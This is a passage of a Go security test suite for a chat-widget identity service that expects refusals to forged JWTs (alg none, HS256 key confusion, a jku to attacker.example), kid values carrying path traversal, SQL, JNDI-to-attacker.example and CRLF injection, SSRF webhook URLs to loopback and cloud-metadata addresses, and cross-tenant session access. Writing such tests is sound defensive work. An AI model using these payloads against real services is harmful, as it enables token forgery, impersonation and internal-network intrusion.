package attack

import (
	"bytes"
	"cmp"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/chatwidget/identity/worker/test/contract"
	"github.com/google/uuid"
)

// The error codes the cases want, and the bodies they send.
const (
	invalidToken            = "invalid_token"
	invalidRequest          = "invalid_request"
	invalidJSON             = "invalid_json"
	unauthorized            = "unauthorized"
	notFound                = "not_found"
	originNotAllowed        = "origin_not_allowed"
	externalIDMismatch      = "external_id_mismatch"
	tokenExpired            = "token_expired"
	tokenRevoked            = "token_revoked"
	payloadTooLarge         = "payload_too_large"
	methodNotAllowed        = "method_not_allowed"
	attackContent           = `{"content":"attack"}`
	attackSessionBody       = `{"custom_data":{"attack":true}}`
	attackSessionOtherExt   = `{"external_id":"ws-2"}`
	attackAuthenticateBody  = `{"user_id":"u-victim","name":"Attacker","custom_data":{"role":"admin"}}`
	attackRevokeVictimBody  = `{"user_id":"u-victim"}`
	attackContactNameChange = `{"device_id":"{DevA1}","name":"Attacker","email":"attacker@evil.example"}`
	probeOrgBody            = `{"name":"Attacker","allowed_origins":["{probe}"]}` // an org that, if created, the observer would see allow the probe origin
)

// Cases returns the whole attack table.
func Cases() []Case {
	return slices.Concat(
		algNoneCases(), hs256Cases(), kidUnknownCases(), kidInjectedCases(),
		expiredCases(), notYetValidCases(), otherOrgCases(), tamperedCases(),
		sigStrippedCases(), revokedCases(), oversizedCases(), contactAsVerifiedCases(),
		apiKeyOtherOrgCases(), apiKeyDeletedCases(), apiKeyForgedCases(), adminForgedCases(),
		wrongKindCases(), otherDeviceCases(), claimedEmailCases(), externalIDCases(), claimProofCases(),
		corsOriginCases(), corsPreflightCases(), corsServerRouteCases(), credentialInURLCases(),
		securityHeaderCases(), identityKindCases(), caseFoldEmailCases(), deletedKeyTokenCases(),
		deviceInTokenCases(), malformedEscapeCases(), jsonMalformedCases(), jsonKeyCaseCases(), jsonKeyRepeatedCases(), jsonDeepCases(),
		webhookInternalURLCases(), lookAlikeIdentityCases(), fieldLimitCases(),
	)
}

// webhookInternalURLCases set org A's webhook to a URL that fetch reads
// as a loopback, private, link-local or other special-purpose address (the
// WHATWG URL standard's host parser: old IPv4 forms, a trailing dot; NAT64
// and 6to4 forms of internal IPv4 addresses, SIIT's ::ffff:0:a.b.c.d outside
// 2000::/3), so that the worker would POST its events inside its own network.
func webhookInternalURLCases() []Case {
	const cl = "webhook-url-internal"
	var cs []Case
	for _, u := range []string{
		"https://127.1/hook", "https://127.0.0.1./hook", "https://0177.0.0.1/hook", "https://0x7f.0.0.1/hook",
		"https://2130706433/hook", "https://10.1/hook", "https://0xa000001/hook", "https://192.168.1/hook",
		"https://169.254.169.254./latest", "https://0251.0376.0251.0376/latest", "https://0.0.0.0./hook",
		"https://foo.localhost./hook", "https://printer.local./hook", "https://[::127.0.0.1]/hook",
		"https://100.64.0.1/hook", "https://198.18.0.1/hook", "https://[64:ff9b::a9fe:a9fe]/latest",
		"https://[2002:a00:1::1]/hook", "https://[::ffff:0:7f00:1]/hook", "https://[::ffff:0:a9fe:a9fe]/latest",
	} {
		cs = append(cs, sc(cl, "PUT /v1/webhook "+u, "PUT /v1/webhook", "Bearer {A.key}", `{"url":"`+u+`"}`, refusal(400, invalidRequest)))
	}
	return cs
}

// ---- token material ----

// signed signs claims with the worker's own key under header (its kid
// unless header says otherwise); only for cases with NeedsKey.
func (f *Fixture) signed(header, claims map[string]any) string {
	if f.signKey == nil {
		return "needs-the-signing-key"
	}
	if header == nil {
		header = map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.signKID}
	}
	return signEd(f.signKey, header, claims)
}

// timed sets a token's times: issued at iat, valid for ttl, and a fresh jti.
func timed(c map[string]any, iat time.Time, ttl time.Duration) map[string]any {
	c["iat"], c["iat_ms"], c["nbf"], c["exp"], c["jti"] = iat.Unix(), iat.Unix()*1000, iat.Unix(), iat.Add(ttl).Unix(), uuid.NewString()
	return c
}

// contactClaims are A1's contact token's claims, fresh.
func (f *Fixture) contactClaims() map[string]any {
	return timed(f.claimsOf("CA1"), time.Now(), time.Hour)
}

// resigned signs A1's fresh claims changed by fn with the worker's key.
func resigned(fn func(f *Fixture, c map[string]any)) func(*Fixture) string {
	return func(f *Fixture) string {
		c := f.contactClaims()
		fn(f, c)
		return f.signed(nil, c)
	}
}

// ---- token classes ----

func algNoneCases() []Case {
	none := func(alg string, withKID, victim, keepSig bool) func(f *Fixture) string {
		return func(f *Fixture) string {
			h, claims, sig := map[string]any{"alg": alg}, f.claimsOf("CA1"), ""
			if withKID {
				h["typ"], h["kid"] = "JWT", f.KID
			}
			if victim {
				claims = f.claimsOf("V")
			}
			if keepSig {
				_, _, sig = jwtParts(f.v("CA1"))
			}
			return seg(h) + "." + seg(claims) + "." + sig // alg none: no signature, or a kept one
		}
	}
	return presented("alg-none", refusal(401, invalidToken), allRoutes,
		tok("alg none, empty signature", none("none", true, false, false)),
		tok("alg None", none("None", true, false, false)),
		tok("alg NONE, no kid", none("NONE", false, false, false)),
		tok("alg none, genuine signature kept", none("none", true, false, true)),
		tok("alg none, the victim's verified claims", none("none", true, true, false)),
		tok("no alg at all, genuine signature kept", func(f *Fixture) string { return withHeader(f.v("CA1"), map[string]any{"typ": "JWT", "kid": f.KID}) }),
	)
}

func hs256Cases() []Case {
	hs := func(alg string, secret func(f *Fixture) []byte, victim bool) func(f *Fixture) string {
		return func(f *Fixture) string {
			claims := f.claimsOf("CA1")
			if victim {
				claims = f.claimsOf("V")
			}
			return signHMAC(alg, secret(f), map[string]any{"alg": alg, "typ": "JWT", "kid": f.KID}, claims)
		}
	}
	raw := func(f *Fixture) []byte { return f.PublicKey }
	x := func(f *Fixture) []byte { return []byte(b64(f.PublicKey)) }
	doc := func(f *Fixture) []byte { return f.JWKS }
	return presented("alg-hs256-public-key", refusal(401, invalidToken), allRoutes,
		tok("HS256 keyed with the public key's bytes", hs("HS256", raw, false)),
		tok("HS256 keyed with the JWKS x string", hs("HS256", x, false)),
		tok("HS256 keyed with the whole JWKS", hs("HS256", doc, false)),
		tok("HS384 keyed with the public key", hs("HS384", raw, false)),
		tok("HS512 keyed with the public key", hs("HS512", raw, false)),
		tok("HS256 keyed with the public key, the victim's claims", hs("HS256", raw, true)),
	)
}

func kidUnknownCases() []Case {
	att := func(name string, header func(f *Fixture) map[string]any) credential {
		return tok("attacker's key"+name, func(f *Fixture) string { return signEd(f.Attacker, header(f), f.contactClaims()) })
	}
	is := func(h map[string]any) func(*Fixture) map[string]any {
		return func(*Fixture) map[string]any { return h }
	}
	genuine := func(name string, kid func(f *Fixture) string) credential {
		return keyTok("genuine signature under "+name, func(f *Fixture) string {
			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": kid(f)}, f.contactClaims())
		})
	}
	return append(presented("kid-unknown", refusal(401, invalidToken), writeRoutes,
		att(", unknown kid", is(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1"})),
		att(", no kid", is(map[string]any{"alg": "EdDSA", "typ": "JWT"})),
		att(", the worker's kid", func(f *Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID} }),
		att(", empty kid", is(map[string]any{"alg": "EdDSA", "kid": ""})),
		att(", numeric kid", is(map[string]any{"alg": "EdDSA", "kid": 1})),
		att(" embedded as a jwk header", func(f *Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1",
				"jwk": map[string]any{"kty": "OKP", "crv": "Ed25519", "x": b64(f.Attacker.Public().(ed25519.PublicKey)), "kid": "attacker-1"}}
		}),
		att(" named by a jku header", func(f *Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID, "jku": "https://attacker.example/jwks.json"}
		}),
		genuine("a kid the worker lacks", func(f *Fixture) string { return f.KID + "-old" }),
		genuine("the kid in upper case", func(f *Fixture) string { return strings.ToUpper(f.KID) }),
	), presented("kid-unknown", refusal(401, invalidToken), allRoutes, // the victim's verified claims
		tok("attacker's key, the worker's kid, the victim's claims", func(f *Fixture) string {
			return signEd(f.Attacker, map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID}, f.claimsOf("V"))
		}),
		tok("attacker's key, unknown kid, the victim's claims", func(f *Fixture) string {
			return signEd(f.Attacker, map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "no-such-kid"}, f.claimsOf("V"))
		}))...)
}

func kidInjectedCases() []Case {
	var toks []credential
	for _, k := range []struct{ name, kid string }{
		{"path traversal", "../../etc/passwd"}, {"SQL", "' OR 1=1 --"}, {"4 KiB long", strings.Repeat("K", 4096)},
		{"NUL byte", "x\x00y"}, {"URL", "https://attacker.example/jwks.json"}, {"JNDI", "${jndi:ldap://attacker.example/a}"},
		{"header injection", "k\r\nX-Injected: 1"},
	} {
		h := map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}
		toks = append(toks,
			credential{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid},
				make: func(f *Fixture) string { return signEd(f.Attacker, h, f.contactClaims()) }},
			credential{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid},
				make: func(f *Fixture) string { return f.signed(h, f.contactClaims()) }})
	}
	return presented("kid-injected", refusal(401, invalidToken), writeRoutes, toks...)
}

// signedAt signs the claims of token t issued at now+at, valid for ttl.
func signedAt(t string, at, ttl time.Duration) func(*Fixture) string {
	return func(f *Fixture) string { return f.signed(nil, timed(f.claimsOf(t), time.Now().Add(at), ttl)) }
}

func expiredCases() []Case {
	return presented("token-expired", refusal(401, tokenExpired), allRoutes,
		keyTok("contact token expired an hour ago", signedAt("CA1", -2*time.Hour, time.Hour)),
		keyTok("verified token expired ten minutes ago", signedAt("V", -70*time.Minute, time.Hour)))
}

func notYetValidCases() []Case {
	return presented("token-not-yet-valid", refusal(401, invalidToken), writeRoutes,
		keyTok("issued an hour from now", signedAt("CA1", time.Hour, time.Hour)),
		keyTok("nbf an hour from now", resigned(func(_ *Fixture, c map[string]any) { c["nbf"] = time.Now().Add(time.Hour).Unix() })),
		keyTok("verified, issued a day from now", signedAt("V", 24*time.Hour, 48*time.Hour)),
		// Beyond int64 seconds: a time that would read as long past.
		keyTok("nbf 1e300", resigned(func(_ *Fixture, c map[string]any) { c["nbf"] = 1e300 })),
		keyTok("iat 1e300, no iat_ms", resigned(func(_ *Fixture, c map[string]any) { c["iat"] = 1e300; delete(c, "iat_ms") })))
}

func otherOrgCases() []Case {
	return presented("token-other-org", refusal(401, invalidToken), allRoutes,
		tok("org B's contact token with A's widget token", fixed("{CB1}")),
		tok("org B's verified token (same user_id) with A's widget token", fixed("{VB}")),
		credential{name: "org A's contact token with B's widget token", pk: "{B.pk}", make: fixed("{CA1}")},
		credential{name: "org A's verified token with B's widget token", pk: "{B.pk}", make: fixed("{V}")},
		keyTok("genuine signature, aud org B, with A's widget token", resigned(func(f *Fixture, c map[string]any) { c["aud"] = []string{f.v("B.ID")} })),
		keyTok("genuine signature, aud a prefix-extension of org A", resigned(func(f *Fixture, c map[string]any) { c["aud"] = f.v("A.ID") + "x" })),
	)
}

// tamper keeps token t's header and signature around its claims changed by fn.
func tamper(t string, fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
	return func(f *Fixture) string {
		c := f.claimsOf(t)
		fn(f, c)
		return withPayload(f.v(t), c)
	}
}

func tamperedCases() []Case {
	return append(presented("token-tampered", refusal(401, invalidToken), writeRoutes,
		tok("contact sub changed to device A2", tamper("CA1", func(f *Fixture, c map[string]any) { c["sub"] = f.v("DevA2") })),
		tok("contact cid changed", tamper("CA1", func(f *Fixture, c map[string]any) { c["cid"] = uuid.NewString() })),
		credential{name: "aud changed to org B, with B's widget token", pk: "{B.pk}",
			make: tamper("CA1", func(f *Fixture, c map[string]any) { c["aud"] = []string{f.v("B.ID")} })},
		tok("exp pushed a year ahead", tamper("CA1", func(f *Fixture, c map[string]any) { c["exp"] = time.Now().AddDate(1, 0, 0).Unix() })),
		tok("verified: external_id changed to ws-2", tamper("VExt", func(f *Fixture, c map[string]any) { c["external_id"] = OtherExt })),
		tok("verified: external_id removed", tamper("VExt", func(f *Fixture, c map[string]any) { delete(c, "external_id") })),
		tok("verified: sub and uid changed", tamper("V", func(f *Fixture, c map[string]any) { c["sub"], c["uid"] = "u-other", "u-other" })),
		tok("verified: email changed", tamper("V", func(f *Fixture, c map[string]any) { c["email"] = "admin@shop-a.example" })),
		tok("same claims re-encoded", tamper("CA1", func(*Fixture, map[string]any) {})),
		tok("header changed (typ)", func(f *Fixture) string {
			return withHeader(f.v("CA1"), map[string]any{"alg": "EdDSA", "typ": "JWS", "kid": f.KID})
		}),
		tok("payload with base64 padding", func(f *Fixture) string {
			h, p, s := jwtParts(f.v("CA1"))
			return h + "." + p + strings.Repeat("=", (4-len(p)%4)%4+4) + "." + s
		}),
	), presented("token-tampered", refusal(401, invalidToken), allRoutes,
		tok("verified: exp pushed an hour ahead", tamper("V", func(_ *Fixture, c map[string]any) { c["exp"] = c["exp"].(float64) + 3600 })))...)
}

func sigStrippedCases() []Case {
	// sig replaces the signature of token t; nil drops the segment.
	strip := func(t string, sig func(f *Fixture, s string) string) func(f *Fixture) string {
		return func(f *Fixture) string {
			h, p, s := jwtParts(f.v(t))
			if sig == nil {
				return h + "." + p
			}
			return h + "." + p + "." + sig(f, s)
		}
	}
	empty := func(*Fixture, string) string { return "" }
	flip := func(_ *Fixture, s string) string { return b64(flipBit(unb64(s), 77)) }
	return presented("token-signature-stripped", refusal(401, invalidToken), allRoutes,
		tok("contact token, empty signature", strip("CA1", empty)),
		tok("contact token, no signature segment", strip("CA1", nil)),
		tok("verified token, empty signature", strip("V", empty)),
		tok("another token's signature", strip("CA1", func(f *Fixture, _ string) string { _, _, s := jwtParts(f.v("CA2")); return s })),
		tok("signature truncated", strip("CA1", func(_ *Fixture, s string) string { return s[:len(s)/2] })),
		tok("signature of zero bytes", strip("CA1", func(*Fixture, string) string { return b64(make([]byte, 64)) })),
		tok("signature with one bit flipped", strip("CA1", flip)),
		tok("verified token, signature with one bit flipped", strip("V", flip)),
		tok("signature malleated, S + L (passes a lax Ed25519 check)", strip("CA1", func(_ *Fixture, s string) string { return b64(malleate(unb64(s))) })),
	)
}

func revokedCases() []Case {
	const cl = "token-revoked"
	own := []apiRoute{rGet.on("{SR}", "{its own}"), rPost.on("{SR}", "{its own}")}
	withoutMs := keyTok("revoked user's claims re-signed without iat_ms", func(f *Fixture) string {
		c := f.claimsOf("R")
		delete(c, "iat_ms")
		return f.signed(nil, c)
	})
	return append(presented(cl, refusal(401, tokenRevoked), slices.Concat(allRoutes, own), tok("revoked user's token", fixed("{R}"))),
		presented(cl, refusal(401, tokenRevoked), writeRoutes, withoutMs)...)
}

func oversizedCases() []Case {
	const cl = "oversized"
	pad := func(n int) string { return strings.Repeat("A", n) }
	platform := func(status int, code string) Want { return Want{Status: status, Code: code, Platform: true} }
	return slices.Concat(presented(cl, refusal(401, invalidToken), []apiRoute{rMe},
		keyTok("9 KiB token with a genuine signature", resigned(func(_ *Fixture, c map[string]any) { c["pad"] = pad(9 << 10) }))),
		presented(cl, platform(401, invalidToken), []apiRoute{rCreate}, tok("100 KB token", func(f *Fixture) string {
			h, p, s := jwtParts(f.v("CA1"))
			return h + "." + p + pad(100_000) + "." + s
		}), tok("1 MB Authorization header", fixed(pad(1<<20)))), []Case{
			wcOn(cl, "1 MB X-Widget-Token: POST /v1/widget/contacts", "POST /v1/widget/contacts", "pk_"+pad(1<<20), "", attackContactNameChange, platform(401, unauthorized)),
			sc(cl, "100 KB api key: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer sk_"+pad(100_000), attackAuthenticateBody, platform(401, unauthorized)),
			sc(cl, "100 KB admin token: POST /v1/admin/orgs", "POST /v1/admin/orgs", "Bearer {admin}"+pad(100_000), probeOrgBody, platform(401, unauthorized)),
			wc(cl, "1 MB body: POST /v1/widget/contacts", "POST /v1/widget/contacts", "",
				`{"device_id":"{DevA1}","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
			sc(cl, "1 MB body: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer {A.key}",
				`{"user_id":"u-victim","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
			wc(cl, "65 KiB message: POST /v1/widget/sessions/{id}/messages", "POST /v1/widget/sessions/{SA1}/messages", "{CA1}",
				`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
			sc(cl, "65 KiB agent message: POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", "Bearer {A.key}",
				`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
		})
}

// ---- answers that must show only the caller's own ----

// listExactly: a listing of exactly the sessions named; listWithin: of
// none but them.
func listExactly(names ...string) func(*Fixture, *Response) []string { return listing(true, names) }
func listWithin(names ...string) func(*Fixture, *Response) []string  { return listing(false, names) }

func listing(exactly bool, names []string) func(*Fixture, *Response) []string {
	return func(f *Fixture, r *Response) []string {
		var l contract.SessionList
		if err := json.Unmarshal(r.Body, &l); err != nil {
			return []string{"listing is not {items:[...]}"}
		}
		got := make([]string, len(l.Items))
		for i, it := range l.Items {
			got[i] = it.ID
		}
		w := make([]string, len(names))
		for i, n := range names {
			w[i] = f.v(n)
		}
		if exactly {
			slices.Sort(got)
			slices.Sort(w)
			if !slices.Equal(got, w) {
				return []string{fmt.Sprintf("listing shows %s, want exactly %s", f.names(got), f.names(w))}
			}
			return nil
		}
		if leaked := slices.DeleteFunc(got, func(id string) bool { return slices.Contains(w, id) }); len(leaked) > 0 {
			return []string{fmt.Sprintf("listing leaks %s", f.names(leaked))}
		}
		return nil
	}
}

// names names the fixture's sessions in messages.
func (f *Fixture) names(ids []string) string {
	m := map[string]string{}
	for n, s := range f.world.Sessions {
		m[s.ID] = n
	}
	out := make([]string, len(ids))
	for i, id := range ids {
		out[i] = cmp.Or(m[id], "other session "+id)
	}
	return "[" + strings.Join(out, " ") + "]"
}

// hiddenWant: a 404 exactly like the one for a session that does not exist.
var hiddenWant = Want{Status: 404, Code: notFound, Check: func(f *Fixture, r *Response) []string {
	if !bytes.Equal(r.Body, f.NotFound) {
		return []string{"the 404 differs from the one for a session that does not exist: it tells the session exists"}
	}
	return nil
}}

// meIsContact: /me shows the contact of the token's device (id, when not
// ""), not verified, and no user.
func meIsContact(id string) func(*Fixture, *Response) []string {
	return func(f *Fixture, r *Response) []string {
		contact := contract.M{"verified": false}
		if want := f.x(id); want != "" {
			contact["id"] = want
		}
		if d := contract.Match(json.RawMessage(r.Body), contract.M{"contact": contact, "user": contract.Absent}); d != "" {
			return []string{"/me of a contact token: " + d}
		}
		return nil
	}
}

// ---- who sees which chats ----

func contactAsVerifiedCases() []Case {
	const cl = "contact-as-verified"
	return append(presented(cl, refusal(401, invalidToken), writeRoutes,
		tok("kind flipped to verified as the victim, signature kept", tamper("CA1", func(_ *Fixture, c map[string]any) {
			c["kind"], c["sub"], c["uid"], c["email"] = "verified", VictimID, VictimID, VictimEmail
			delete(c, "cid")
		})),
		tok("kind flipped to verified, cid kept, signature kept", tamper("CA1", func(_ *Fixture, c map[string]any) { c["kind"] = "verified" })),
		keyTok("genuine signature on a contact with the victim's uid and email", resigned(func(_ *Fixture, c map[string]any) {
			c["uid"], c["email"] = VictimID, VictimEmail
		})),
		keyTok("genuine signature, kind verified with a cid", resigned(func(_ *Fixture, c map[string]any) {
			c["kind"], c["sub"], c["uid"] = "verified", VictimID, VictimID
		})),
	),
		wc(cl, "A1's contact token lists only A1's sessions (not the victim's, though the victim chatted from A1's browser too)",
			"GET /v1/widget/sessions", "{CA1}", "", ok(listExactly("SA1", "SA1b"))),
		wc(cl, "A1's contact token lists ws-1: only A1's ws-1 session", "GET /v1/widget/sessions?external_id="+BoundExt, "{CA1}", "", ok(listExactly("SA1b"))),
		wc(cl, "A1's contact token reads the victim's session", "GET /v1/widget/sessions/{SV}", "{CA1}", "", hiddenWant),
		wc(cl, "A1's contact token posts to the victim's session", "POST /v1/widget/sessions/{SV}/messages", "{CA1}", attackContent, hiddenWant),
		wc(cl, "A1's /me is its contact, not verified", "GET /v1/widget/me", "{CA1}", "", ok(meIsContact("{ContactA1}"))),
		wc(cl, "the victim's verified token lists none of the device's contact sessions", "GET /v1/widget/sessions", "{V}", "", ok(listExactly("SV", "SVws1", "SVws2"))),
		wc(cl, "the victim's verified token reads A1's contact session", "GET /v1/widget/sessions/{SA1}", "{V}", "", hiddenWant),
	)
}

func otherDeviceCases() []Case {
	const cl = "session-other-device"
	return []Case{
		wc(cl, "A2 reads A1's session by id", "GET /v1/widget/sessions/{SA1}", "{CA2}", "", hiddenWant),
		wc(cl, "A2 reads A1's session after a message", "GET /v1/widget/sessions/{SA1}?after={v7}", "{CA2}", "", hiddenWant),
		wc(cl, "A2 reads A1's ws-1 session", "GET /v1/widget/sessions/{SA1b}", "{CA2}", "", hiddenWant),
		wc(cl, "A2 posts to A1's session", "POST /v1/widget/sessions/{SA1}/messages", "{CA2}", attackContent, hiddenWant),
		call(cl, "A2 posts to A1's session with an Idempotency-Key", "POST /v1/widget/sessions/{SA1}/messages", attackContent, hiddenWant,
			"X-Widget-Token", "{A.pk}", "Authorization", "Bearer {CA2}", "Idempotency-Key", "attack-{new}"),
		{Class: cl, Name: "A2 reads A1's session id in upper case", Want: hiddenWant, Req: func(f *Fixture) Request {
			return f.widgetReq("GET /v1/widget/sessions/"+strings.ToUpper(f.v("SA1")), "{A.pk}", "{CA2}", "")
		}},
		wcOn(cl, "B1 (org B) reads A1's session with B's widget token", "GET /v1/widget/sessions/{SA1}", "{B.pk}", "{CB1}", "", hiddenWant),
		wcOn(cl, "B1 (org B) posts to A1's session", "POST /v1/widget/sessions/{SA1}/messages", "{B.pk}", "{CB1}", attackContent, hiddenWant),
		wcOn(cl, "B's verified victim reads A's victim session", "GET /v1/widget/sessions/{SV}", "{B.pk}", "{VB}", "", hiddenWant),
		// A cursor is of one listing: another's is refused, like a forged one.
		wc(cl, "A2 lists with A1's cursor", "GET /v1/widget/sessions?cursor={CursorA1}", "{CA2}", "", naming(refusal(400, invalidRequest), "cursor")),
		wc(cl, "A2 lists with org A's server-listing cursor", "GET /v1/widget/sessions?cursor={CursorOrgA}", "{CA2}", "", naming(refusal(400, invalidRequest), "cursor")),
		wc(cl, "A2 lists its own sessions only", "GET /v1/widget/sessions?limit=100", "{CA2}", "", ok(listExactly("SA2"))),
	}
}

func claimedEmailCases() []Case {
	const cl = "contact-claims-email"
	return []Case{
		wc(cl, "A3 (claimed the victim's email) lists only its own session", "GET /v1/widget/sessions", "{CA3}", "", ok(listExactly("SA3"))),
		wc(cl, "A3 lists ws-1: nothing", "GET /v1/widget/sessions?external_id="+BoundExt, "{CA3}", "", ok(listExactly())),
		wc(cl, "A3 reads the victim's session", "GET /v1/widget/sessions/{SV}", "{CA3}", "", hiddenWant),
		wc(cl, "A3 reads the victim's ws-1 session", "GET /v1/widget/sessions/{SVws1}", "{CA3}", "", hiddenWant),
		wc(cl, "A3 posts to the victim's session", "POST /v1/widget/sessions/{SV}/messages", "{CA3}", attackContent, hiddenWant),
		wc(cl, "A3's /me is a contact, not the victim", "GET /v1/widget/me", "{CA3}", "", ok(meIsContact(""))),
	}
}

func externalIDCases() []Case {
	const cl = "external-id-outside-token"
	mismatch := refusal(403, externalIDMismatch)
	return []Case{
		wc(cl, "create in ws-2 with a ws-1 token", "POST /v1/widget/sessions", "{VExt}", attackSessionOtherExt, mismatch),
		wc(cl, "create in WS-1 (case changed)", "POST /v1/widget/sessions", "{VExt}", `{"external_id":"WS-1"}`, mismatch),
		wc(cl, "create in \"ws-1 \" (trailing space)", "POST /v1/widget/sessions", "{VExt}", `{"external_id":"ws-1 "}`, mismatch),
		call(cl, "create in ws-2 with an Idempotency-Key", "POST /v1/widget/sessions", attackSessionOtherExt, mismatch,
			"X-Widget-Token", "{A.pk}", "Authorization", "Bearer {VExt}", "Idempotency-Key", "attack-{new}"),
		wc(cl, "list ws-2 with a ws-1 token", "GET /v1/widget/sessions?external_id="+OtherExt, "{VExt}", "", mismatch),
		wc(cl, "list WS-1 (case changed)", "GET /v1/widget/sessions?external_id=WS-1", "{VExt}", "", mismatch),
		wc(cl, "list ws-1 and ws-2 (the parameter twice)", "GET /v1/widget/sessions?external_id="+BoundExt+"&external_id="+OtherExt, "{VExt}", "",
			naming(refusal(400, invalidRequest), "external_id")),
		// A value no caller could use is the value's fault: 400, bound token or not.
		wc(cl, "list a NUL external id with a ws-1 token", "GET /v1/widget/sessions?external_id=%00", "{VExt}", "",
			naming(refusal(400, invalidRequest), "external_id")),
		wc(cl, "create with a 257-character external id", "POST /v1/widget/sessions", "{VExt}", `{"external_id":"`+strings.Repeat("w", 257)+`"}`,
			naming(refusal(400, invalidRequest), "external_id")),
		wc(cl, "list without external_id: only ws-1", "GET /v1/widget/sessions", "{VExt}", "", ok(listExactly("SVws1"))),
		wc(cl, "read the same user's ws-2 session", "GET /v1/widget/sessions/{SVws2}", "{VExt}", "", hiddenWant),
		wc(cl, "read the same user's session without external id", "GET /v1/widget/sessions/{SV}", "{VExt}", "", hiddenWant),
		wc(cl, "post to the same user's ws-2 session", "POST /v1/widget/sessions/{SVws2}/messages", "{VExt}", attackContent, hiddenWant),
		wc(cl, "read a contact's ws-1 session", "GET /v1/widget/sessions/{SA1b}", "{VExt}", "", hiddenWant),
	}
}

// claimProofCases: a claim wants the verified token in Authorization and
// this device's genuine, live contact token of the same org in
// X-Contact-Token (a forged user token on the claim route is each token
// class's).
func claimProofCases() []Case {
	const cl = "claim-without-proof"
	claim := func(name, auth, contact string, want Want) Case {
		return call(cl, name, "POST /v1/widget/claim", "", want, "X-Widget-Token", "{A.pk}", "Authorization", auth, "X-Contact-Token", contact)
	}
	bad := refusal(401, invalidToken)
	return []Case{
		claim("A1's contact token in Authorization too", userAuth, "{CA1}", refusal(403, "forbidden")),
		claim("no X-Contact-Token", "Bearer {V}", "", refusal(400, invalidRequest)),
		claim("org B's contact token", "Bearer {V}", "{CB1}", bad),
		claim("the verified token as the contact token", "Bearer {V}", "{V}", bad),
		claim("garbage (abc.def.ghi) as the contact token", "Bearer {V}", "abc.def.ghi", bad),
		{Class: cl, Name: "A2's contact token expired an hour ago", NeedsKey: true, Want: refusal(401, tokenExpired), Req: func(f *Fixture) Request {
			return f.req("POST /v1/widget/claim", "", "X-Widget-Token", "{A.pk}", "Authorization", "Bearer {V}", "X-Contact-Token", signedAt("CA2", -2*time.Hour, time.Hour)(f))
		}},
	}
}

// ---- api keys, admin token, credential kinds ----

func apiKeyOtherOrgCases() []Case {
	const cl = "api-key-other-org"
	nf := refusal(404, notFound)
	cs := []Case{
		sc(cl, "B's key reads A's session", "GET /v1/sessions/{SA1}", "Bearer {B.key}", "", nf),
		sc(cl, "B's key reads A's victim session", "GET /v1/sessions/{SV}", "Bearer {B.key}", "", nf),
		sc(cl, "B's key posts to A's session", "POST /v1/sessions/{SA1}/messages", "Bearer {B.key}", attackContent, nf),
		sc(cl, "A's key reads B's session", "GET /v1/sessions/{SB1}", "Bearer {A.key}", "", nf),
		sc(cl, "B's key lists: only B's sessions", "GET /v1/sessions?limit=100", "Bearer {B.key}", "", ok(listExactly("SB1", "SBV"))),
		sc(cl, "B's key lists the victim's user_id: only B's", "GET /v1/sessions?user_id="+VictimID, "Bearer {B.key}", "", ok(listExactly("SBV"))),
		sc(cl, "B's key lists with A's cursor", "GET /v1/sessions?cursor={CursorOrgA}", "Bearer {B.key}", "", naming(refusal(400, invalidRequest), "cursor")),
		sc(cl, "B's key exports A's contact", "GET /v1/contacts/{ContactA1}/export", "Bearer {B.key}", "", nf),
		sc(cl, "B's key deletes A's contact", "DELETE /v1/contacts/{ContactA1}", "Bearer {B.key}", "", nf),
		sc(cl, "B's key on a deletion that is not B's", "GET /v1/deletions/{Missing}", "Bearer {B.key}", "", nf),
		sc(cl, "B's key on A's admin route", "POST /v1/admin/orgs/{A.ID}/api-keys", "Bearer {B.key}", "", refusal(401, unauthorized)),
	}
	// Ids that are no session of B's, nor of anyone's.
	long := strings.Repeat("s", 1000)
	for _, id := range []struct{ id, name string }{{"{Missing}", "an unknown id"}, {long, "a 1000-character id"}, {"..", "the id .."}} {
		cs = append(cs, sc(cl, "B's key reads "+id.name, "GET /v1/sessions/"+id.id, "Bearer {B.key}", "", nf),
			sc(cl, "B's key posts to "+id.name, "POST /v1/sessions/"+id.id+"/messages", "Bearer {B.key}", attackContent, nf))
	}
	// The vendor names a key of one org under another, or an org or key that
	// does not exist.
	return append(cs, sc(cl, "the vendor deletes B's key under A", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{B.keyID}", vendorAuth, "", nf),
		sc(cl, "the vendor deletes A's key under an unknown org", "DELETE /v1/admin/orgs/{Missing}/api-keys/{A.keyID}", vendorAuth, "", nf),
		sc(cl, "the vendor deletes an unknown key of A", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{Missing}", vendorAuth, "", nf),
		sc(cl, "the vendor deletes a 1000-character key id of A", "DELETE /v1/admin/orgs/{A.ID}/api-keys/"+long, vendorAuth, "", nf),
		sc(cl, "the vendor makes a key for an unknown org", "POST /v1/admin/orgs/{Missing}/api-keys", vendorAuth, "", nf),
		sc(cl, "the vendor makes a key for a 1000-character org id", "POST /v1/admin/orgs/"+long+"/api-keys", vendorAuth, "", nf))
}

func apiKeyDeletedCases() []Case {
